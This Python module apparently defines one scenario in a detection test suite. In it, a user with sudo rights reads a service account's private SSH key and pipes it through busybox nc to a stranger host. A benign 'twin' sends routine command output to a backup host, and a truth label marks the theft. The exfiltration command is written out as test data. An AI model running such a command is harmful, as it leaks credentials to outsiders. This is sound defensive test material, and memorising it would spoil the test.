"""A person becomes a service account, reads its key and reaches outside with it."""

from __future__ import annotations

from ..scenario import BACKUP, RAW, STRANGER, Person, Scenario, Service, Step, Truth
from ..twins import Draw


def _twin(draw: Draw) -> tuple[Step, ...]:
    task = draw.one_of("date", "id", "uptime", "ls /home/deploy", "git --version")
    return (Step("sara", f"ssh sara@app 'sudo -u deploy {task} | busybox nc {BACKUP} {RAW}'"),)


SCENARIO = Scenario(
    number=15,
    title="sudo to a service account, whose key is read and sent away",
    people=(
        Person("sven", ("app",), "NOPASSWD: ALL"),
        Person("sara", ("app",), "NOPASSWD: ALL"),
    ),
    services=(Service("deploy", ("app",)),),
    steps=(
        Step(
            "sven",
            f"ssh sven@app 'sudo -u deploy cat /home/deploy/.ssh/id_ed25519 | busybox nc {STRANGER} {RAW}'",
        ),
    ),
    twin_title="a daily task as the service account, that reports to the backup host",
    twin=_twin,
    truth=Truth("sven", ("app",), ("secret-read-then-out", "service-secret")),
)
